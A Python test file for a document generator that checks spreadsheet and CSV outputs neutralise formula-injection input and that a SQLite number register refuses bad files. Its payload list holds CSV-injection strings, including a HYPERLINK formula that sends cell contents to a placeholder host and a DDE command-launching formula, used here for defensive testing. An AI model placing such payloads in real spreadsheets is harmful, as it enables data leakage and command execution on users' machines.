"""Hostile input, part 1: spreadsheet cells are data, the register refuses what it is not.

Every check opens what docgen wrote: the .xlsx's XML and cells, the CSV's
cells, the SQLite file's bytes.
"""

from __future__ import annotations

import csv
import io
import shutil
import sqlite3
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from docgen.cells import FORMULA_START, csv_cell, set_cell, write_only_row
from docgen.cli import main
from docgen.registry import Registry, RegistryError, Request

SAMPLES = Path(__file__).resolve().parent.parent / "samples"
CODE = "高文联办督"
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"详情")',
    "=cmd|' /c calc'!A0",  # DDE
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =1+1",
]


# --- the helper ----------------------------------------------------------------------


@pytest.mark.parametrize("text", PAYLOADS)
def test_csv_cell_neutralises_formula_starts(text: str) -> None:
    out = csv_cell(text)
    assert out.startswith("'")
    assert out[1:] == text


def test_csv_cell_keeps_numbers_and_plain_text() -> None:
    assert csv_cell(-5) == -5 and csv_cell(3.5) == 3.5
    assert csv_cell("市公安局") == "市公安局"
    assert csv_cell(None) == ""
    assert csv_cell("a\x07b") == "ab"  # a bell never reaches a sheet


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_cells_are_text_never_formulas(write_only: bool) -> None:
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("t") if write_only else wb.active
    values = [*PAYLOADS, "控制\x08字符", 42, "普通"]
    if write_only:
        ws.append(write_only_row(ws, values))
    else:
        for col, v in enumerate(values, 1):
            set_cell(ws.cell(1, col), v)
    buf = io.BytesIO()
    wb.save(buf)
    sheet = next(n for n in zipfile.ZipFile(buf).namelist() if n.startswith("xl/worksheets/"))
    xml = zipfile.ZipFile(buf).read(sheet).decode()
    assert "<f>" not in xml and "<f " not in xml
    got = load_workbook(io.BytesIO(buf.getvalue())).worksheets[0]
    cells = list(got.iter_rows(values_only=False))[0]
    assert all(c.data_type != "f" for c in cells)
    assert cells[0].value == PAYLOADS[0]  # the text is kept as the user wrote it
    assert cells[0].quotePrefix  # Excel shows it as text, as if typed with a leading '
    assert cells[len(PAYLOADS)].value == "控制字符"
    assert cells[len(PAYLOADS) + 1].value == 42


# --- a real batch with hostile items ----------------------------------------------------


@pytest.fixture
def hostile_meeting(tmp_path: Path) -> Path:
    src = tmp_path / "in"
    src.mkdir()
    for name in ("meeting-2025-1.yaml", "member-units.yaml"):
        shutil.copy(SAMPLES / name, src / name)
    rows = [
        ["序号", "议定事项", "牵头单位", "配合单位", "完成时限", "督办要求", "备注"],
        ["1", PAYLOADS[0], "市公安局", "", "2025-12-31", "=1+1", "@x"],
        ["2", "-10 万元经费落实", "市财政局", "", "2025-10-31", "+86 0356", "=DDE()"],
    ]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    (src / "agreed-items-2025-1.csv").write_text(buf.getvalue(), encoding="utf-8")
    return src / "meeting-2025-1.yaml"


def test_batch_ledger_and_manifest_hold_no_formula(hostile_meeting: Path, tmp_path: Path) -> None:
    out, reg = tmp_path / "out", tmp_path / "r.sqlite3"
    args = ["batch", "--meeting", str(hostile_meeting), "-o", str(out), "--quiet"]
    args += ["--registry", str(reg), "--new-registry", "--format", "docx", "--jobs", "1"]
    assert main(args) == 0
    ledger = out / "督办台账.xlsx"
    with zipfile.ZipFile(ledger) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                xml = zf.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml
    wb = load_workbook(ledger)
    matters = []
    for row in wb.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and cell.value.lstrip().startswith(FORMULA_START):
                assert cell.quotePrefix, cell.coordinate
        matters.append(row[3].value)
    assert PAYLOADS[0] in matters  # kept, as text
    text = (out / "manifest.csv").read_text(encoding="utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            assert not value.startswith(FORMULA_START), value


# --- the register -------------------------------------------------------------------


def test_a_mistyped_registry_path_is_not_a_new_register(tmp_path: Path) -> None:
    with pytest.raises(RegistryError, match="不存在.*新建") as refused:
        Registry(tmp_path / "typo" / "reg.sqlite3")
    assert refused.value.remedy == "new-registry" and "--" not in str(refused.value)
    assert not (tmp_path / "typo").exists()  # nothing created on the way


def test_an_empty_file_is_refused_and_left_alone(tmp_path: Path) -> None:
    path = tmp_path / "reg.sqlite3"
    path.write_bytes(b"")
    for create in (False, True):
        with pytest.raises(RegistryError, match="空文件"):
            Registry(path, create=create)
    assert path.read_bytes() == b""


def test_a_foreign_file_is_refused_and_left_alone(tmp_path: Path) -> None:
    text = tmp_path / "notes.txt"
    text.write_text("这不是登记簿\n" * 100, encoding="utf-8")
    before = text.read_bytes()
    with pytest.raises(RegistryError, match="不是文号登记簿"):
        Registry(text, create=True)
    assert text.read_bytes() == before
    other = tmp_path / "other.sqlite3"
    db = sqlite3.connect(other)
    db.execute("CREATE TABLE people (name TEXT)")
    db.commit()
    db.close()
    before = other.read_bytes()
    with pytest.raises(RegistryError, match="别的程序"):
        Registry(other, create=True)
    assert other.read_bytes() == before


def test_a_folder_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RegistryError, match="文件夹"):
        Registry(tmp_path, create=True)


def _damage(path: Path) -> bytes:
    """Overwrite the middle of the issued table's pages with garbage, keep the header."""
    data = bytearray(path.read_bytes())
    page = 4096
    for p in range(1, len(data) // page):
        data[p * page + 8 : p * page + 400] = b"\xff" * 392
    path.write_bytes(bytes(data))
    return bytes(data)


def test_corruption_is_said_in_chinese_and_never_written_over(tmp_path: Path) -> None:
    path = tmp_path / "reg.sqlite3"
    with Registry(path, create=True) as reg:
        reg.allocate(CODE, 2025, [Request("supervision", item_key=f"k{i}") for i in range(200)])
    damaged = _damage(path)
    with pytest.raises(RegistryError, match="已损坏") as info:
        with Registry(path) as reg:
            reg.allocate(CODE, 2025, [Request("supervision", item_key="new")])
    assert "DatabaseError" not in str(info.value) and "malformed" not in str(info.value)
    assert path.read_bytes() == damaged


def test_register_refusals_are_one_chinese_line_on_the_cli(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    empty = tmp_path / "empty.sqlite3"
    empty.write_bytes(b"")
    for args in (
        ["number", "next", CODE, "--take", "--registry", str(empty)],
        ["number", "list", "--registry", str(tmp_path / "nope.sqlite3")],
    ):
        assert main(args) == 2
        err = capsys.readouterr().err.strip()
        assert len(err.splitlines()) == 1 and "Traceback" not in err
        assert "登记簿" in err
    assert empty.read_bytes() == b""
    assert not (tmp_path / "nope.sqlite3").exists()


def test_an_old_register_without_the_mark_still_opens(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    with Registry(path, create=True) as reg:
        reg.take(CODE, 2025, Request("manual"))
    db = sqlite3.connect(path)
    db.execute("PRAGMA application_id = 0")
    db.commit()
    db.close()
    with Registry(path) as reg:
        assert reg.next_seq(CODE, 2025) == 2
